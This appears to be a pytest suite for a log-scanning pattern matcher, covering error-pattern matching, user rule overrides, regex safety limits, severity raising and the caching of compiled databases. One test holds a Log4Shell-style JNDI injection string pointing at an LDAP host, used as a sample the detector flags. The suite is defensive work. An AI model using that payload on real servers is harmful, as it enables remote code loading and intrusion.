from __future__ import annotations

import os
import threading
from collections.abc import Sequence
from pathlib import Path

import pytest

from streams.catalogue.patterns import patterns
from streams.core.config import RaiseSpec, RuleSet, RuleSpec
from streams.core.errors import InputError
from streams.core.events import CATEGORIES, SEVERITIES
from streams.ingest import compiled, compiling, matcher
from streams.ingest.compiling import Expression

PATTERNS = 24
EXAMPLES_MIN = 5


def rule(identity: str, *expressions: str, **fields: object) -> RuleSpec:
    """Return a user's rule with what a rule must have."""
    given: dict[str, object] = {"category": "service", "severity": "error", "hint": "h", **fields}
    return RuleSpec(id=identity, expressions=expressions, **given)  # type: ignore[arg-type]  # keywords are the test's


POSITIVE = [(spec.id, example) for spec in patterns().rules for example in spec.positive]
NEGATIVE = [(spec.id, example) for spec in patterns().rules for example in spec.negative]


@pytest.mark.parametrize(("name", "example"), POSITIVE)
def test_positive_example(name: str, example: str) -> None:
    """A rule of the catalogue names its positive examples."""
    assert matcher.shipped().scan(example.encode()).pattern == name


@pytest.mark.parametrize(("name", "example"), NEGATIVE)
def test_negative_example(name: str, example: str) -> None:
    """A rule of the catalogue leaves its negative examples alone."""
    assert name not in matcher.shipped().rules_in(example.encode())


def test_catalogue_is_complete() -> None:
    """24 patterns are shipped, each with a known category and severity, a hint and five examples of both kinds."""
    rules = patterns().rules
    assert len({spec.id for spec in rules}) == len(rules) == PATTERNS
    assert all(spec.category in CATEGORIES and spec.severity in SEVERITIES for spec in rules)
    assert all(spec.hint and 0 < spec.confidence <= 1 for spec in rules)
    assert all(min(len(set(spec.positive)), len(set(spec.negative))) >= EXAMPLES_MIN for spec in rules)
    assert {spec.category for spec in rules} == set(CATEGORIES)


SPECIFIC = {
    "PANIC:  could not write to log file: No space left on device (postgres)": "disk_full",
    "could not connect to database: deadlock detected": "database_lock",
    "mysql_real_connect failed: 2005 Unknown MySQL server host 'db'": "dns_failure",
    "connect to redis failed: SSL handshake failed": "tls_certificate",
    "failed to connect to database: dial tcp 10.0.0.2:5432: connect: connection refused": "database_connection",
    "dial tcp 10.0.0.2:8080: connect: connection refused": "connection_refused",
    "dial tcp 10.0.0.2:8080: i/o timeout": "network_timeout",
}


@pytest.mark.parametrize("line", SPECIFIC)
def test_most_specific_cause_wins(line: str) -> None:
    """Of several causes that a line names, the most specific one is the pattern."""
    assert matcher.shipped().scan(line.encode()).pattern == SPECIFIC[line]


@pytest.mark.parametrize(
    "line",
    [
        "Finished: 0 errors, 0 failures",
        "timeouts=0 errors=0",
        "timeout http-request    30s",
        "panic_mode=true",
        '"error":null, "status":200',
    ],
)
def test_tempting_words_are_benign(line: str) -> None:
    """Zero counts and settings are no trouble."""
    verdict = matcher.shipped().scan(line.encode())
    assert (verdict.pattern, verdict.error_like and not verdict.level) in {("", False), ("", True)}
    assert verdict.pattern == ""


@pytest.fixture(scope="module")
def own() -> matcher.Matcher:
    """Return users' rules over the whole catalogue, compiled once: seconds of processor time."""
    users = (
        rule("warp_core", "warp core .* refused"),
        rule("dns_failure", "no one at home", category="network"),
        rule("flux", "flux inverted", unless=("drill",)),
        rule("coil", "flux"),
        rule("hull", "hull breach", raises=(RaiseSpec(severity="fatal", expressions=("all decks",)),)),
        rule("other", "shield down"),
        rule("boom", "(a+)+$", "(x|xx|xxx)*y"),
    )
    return matcher.merged(RuleSet(rules=users))


def test_users_rule_comes_first(own: matcher.Matcher) -> None:
    """A user's rule wins over a shipped one that matches too, and changes the hash of the rules."""
    assert own.scan(b"warp core 3: connection refused").pattern == "warp_core"
    assert own.scan(b"web 3: connection refused").pattern == "connection_refused"
    assert own.rules_sha256 != matcher.shipped().rules_sha256


def test_users_rule_replaces_a_shipped_one(own: matcher.Matcher) -> None:
    """A rule with a shipped id stands in that one's place."""
    assert own.scan(b"connect: no one at home").pattern == "dns_failure"
    assert matcher.shipped().scan(b"no such host").pattern == "dns_failure"
    assert own.scan(b"no such host").pattern == ""
    ids = [spec.id for spec in own.rules]
    assert ids[6:] == [spec.id for spec in patterns().rules]
    assert len(ids) == 6 + PATTERNS


def test_what_is_replaced_is_not_heeded(own: matcher.Matcher) -> None:
    """Of the shipped expressions of a replaced rule nothing is said, whatever they occur in."""
    assert any("rule dns_failure" in name for name in matcher.shipped().expressions_in(b"no such host"))
    assert own.rules_in(b"no such host") == ()
    assert not [name for name in own.expressions_in(b"no such host") if "rule dns_failure" in name]


def test_a_users_rule_is_compiled_without_the_shipped_ones(monkeypatch: pytest.MonkeyPatch) -> None:
    """Applied rules ask for the databases of the shipped ones, as they are kept, and for their own expressions."""
    asked: list[set[str]] = []
    any_other = compiling.compile_here([Expression(name="e", text="flux")])

    def database(expressions: Sequence[Expression]) -> object:
        asked.append({expression.text for expression in expressions})
        return any_other

    monkeypatch.setattr(compiled, "database", database)
    matcher.shipped.__wrapped__()
    shipped = list(asked)
    asked.clear()
    matcher.merged(RuleSet(rules=(rule("dns_failure", "no one at home", unless=("drill",)),)))
    assert [texts for texts in asked if texts not in shipped] == [{"no one at home"}, {"drill"}]
    assert len(asked) == len(shipped) + 2


def test_unless_takes_back(own: matcher.Matcher) -> None:
    """An expression of unless takes its rule's match back, and no other rule's."""
    assert own.scan(b"flux inverted").pattern == "flux"
    assert own.scan(b"flux inverted in a drill").pattern == "coil"


BAD_RULES = {
    "huge repeat": (rule("r1", "fine", "a{1,40000}"), "rule r1, expression 2"),
    "look-around": (rule("r2", "a(?=b)"), "rule r2, expression 1"),
    "no regular expression": (rule("r3", "(("), "rule r3, expression 1"),
    "matches everything": (rule("r4", "x*"), "rule r4, expression 1"),
    "too long": (rule("r5", "a" * 2000), "rule r5, expression 1"),
    "bad unless": (rule("r6", "a", unless=("(?!b)",)), "rule r6, unless 1"),
    "unknown category": (rule("r7", "abc", category="weather"), "rule r7"),
    "unknown severity": (rule("r8", "abc", severity="bad"), "rule r8"),
    "no expression": (rule("r9"), "rule r9"),
    "odd id": (rule("r 10", "abc"), "r 10"),
    "confidence": (rule("r11", "abc", confidence=2.0), "rule r11"),
}


@pytest.mark.parametrize("name", BAD_RULES)
def test_bad_rule_is_named(name: str) -> None:
    """A rule that can't hold is an InputError of one line that names rule and expression."""
    bad, named = BAD_RULES[name]
    with pytest.raises(InputError) as caught:
        matcher.merged(RuleSet(rules=(rule("good", "abc"), bad)))
    assert named in str(caught.value)
    assert "\n" not in str(caught.value)


RAISED = {
    "connection pool exhausted": ("database_connection", "critical"),
    "could not connect to database: timeout": ("database_connection", "error"),
    "backend be_app has no server available!": ("service_unavailable", "critical"),
    "no healthy upstream": ("service_unavailable", "critical"),
    "nf_conntrack: table full, dropping packet": ("resource_exhaustion", "critical"),
    "kernel: app[1]: segfault at 0 ip 0 sp 0 error 4": ("process_crash", "critical"),
    "Kernel panic - not syncing: Fatal exception": ("process_crash", "fatal"),
}


@pytest.mark.parametrize("line", RAISED)
def test_context_raises_severity(line: str) -> None:
    """What else stands in a line raises its pattern's severity; without it the severity is the pattern's own."""
    verdict = matcher.shipped().scan(line.encode())
    assert (verdict.pattern, verdict.severity) == RAISED[line]


def test_users_rule_raises(own: matcher.Matcher) -> None:
    """A user's rule may raise its severity; its context alone names nothing, and other rules' severities stay."""
    lines = [b"hull breach", b"hull breach on all decks", b"all decks", b"shield down on all decks"]
    assert [own.scan(line).severity for line in lines] == ["error", "fatal", "", "error"]


def test_served_requests_are_attacks_or_nothing() -> None:
    """A request that was served names no trouble by the words in it, but still an attack."""
    served = '10.0.0.1 - - [x] "GET /docs/connection-refused HTTP/1.1" 200 5 "-" "connection refused"'
    attack = '10.0.0.1 - - [x] "GET /a?q=${jndi:ldap://10.0.0.2/a} HTTP/1.1" 200 5 "-" "-"'
    assert matcher.shipped().scan(served.encode()).pattern == ""
    assert matcher.shipped().scan(attack.encode()).pattern == "security_intrusion"


def test_ten_thousand_rules_are_refused_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """A file of 10 000 rules is refused by its size, before anything of it is compiled."""
    monkeypatch.setattr(compiling, "_in_child", lambda _: pytest.fail("compiled"))
    many = tuple(rule(f"r{number}", f"word{number}") for number in range(10_000))
    with pytest.raises(InputError, match="10000 expressions: at most 5000 are allowed"):
        matcher.merged(RuleSet(rules=many))


def test_compiling_has_a_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    """Expressions that take too long to compile are refused, by name."""
    monkeypatch.setattr(compiling, "COMPILE_SECONDS_MAX", 0.001)
    with pytest.raises(InputError, match="for compiling are spent with 1 of 1 expressions to go"):
        compiling.check_compiles([Expression(name="rule slow", text=r".*a.{1000}.*b.{1000}.*c.{3000}x")])


def test_explosive_pattern_is_harmless(own: matcher.Matcher) -> None:
    """A pattern that takes backtracking engines longer than the universe scans a line like any other."""
    done = threading.Event()

    def scan() -> None:
        own.scan(b"a" * 8000 + b"!")
        own.scan(b"x" * 8000)
        done.set()

    threading.Thread(target=scan, daemon=True).start()
    assert done.wait(30)


def test_compiled_database_is_kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A compiled database is read back from disk; one that is damaged is compiled anew."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    expressions = [Expression(name="e", text="flux")]
    compiled.database(expressions)
    (file,) = tmp_path.rglob("*.hsdb")
    monkeypatch.setattr(compiled, "compile_here", lambda _: pytest.fail("compiled again"))
    assert compiled.database(expressions) is not None
    file.write_bytes(file.read_bytes()[:-1] + b"\x00\x01")
    monkeypatch.setattr(compiled, "compile_here", compiling.compile_here)
    hits: list[int] = []
    compiled.database(expressions).scan(b"a flux", lambda i, *_: hits.append(i))
    assert hits == [0]


def test_what_is_used_is_kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Of too many databases those are dropped that were not used for longest, not those that were made first."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    monkeypatch.setattr(compiled, "_FILES_MAX", 2)
    for text in ("flux", "coil"):
        compiled.database([Expression(name="e", text=text)])
    for file in tmp_path.rglob("*.hsdb"):
        os.utime(file, (1, 1))
    for text in ("flux", "hull"):
        compiled.database([Expression(name="e", text=text)])
    monkeypatch.setattr(compiled, "compile_here", lambda _: pytest.fail("compiled again"))
    assert compiled.database([Expression(name="e", text="flux")]) is not None


def test_no_place_to_keep(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A cache directory that can't be made costs time only."""
    (tmp_path / "file").write_text("in the way")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "file"))
    assert compiled.database([Expression(name="e", text="flux")]) is not None


def test_line_said_again() -> None:
    """A line that is said again has the verdict of the first time, and the next one its own."""
    shipped = matcher.shipped()
    lines = [b"out of memory", b"out of memory", b"all is well", b"all is well", b"out of memory"]
    assert [shipped.scan(line) is matcher.NOTHING for line in lines] == [False, False, True, True, False]
